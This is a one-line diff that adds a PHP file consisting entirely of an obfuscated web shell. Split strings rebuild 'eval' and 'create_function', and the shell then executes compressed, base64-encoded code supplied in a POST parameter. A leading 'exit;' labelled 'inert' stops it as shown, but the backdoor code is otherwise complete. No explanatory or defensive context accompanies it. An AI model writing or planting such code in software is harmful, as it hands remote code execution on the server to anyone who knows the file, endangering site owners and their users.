@@ -1,0 +1,1 @@
+<?php exit; /* inert */ $u="evXal"; $k=str_replace("X","",$u); $c="creXate_funXction"; $cf=str_replace("X","",$c); $x=$cf("", "@ev"."al(gzuncompress(base64_decode(\$_POST[0])));"); $x();
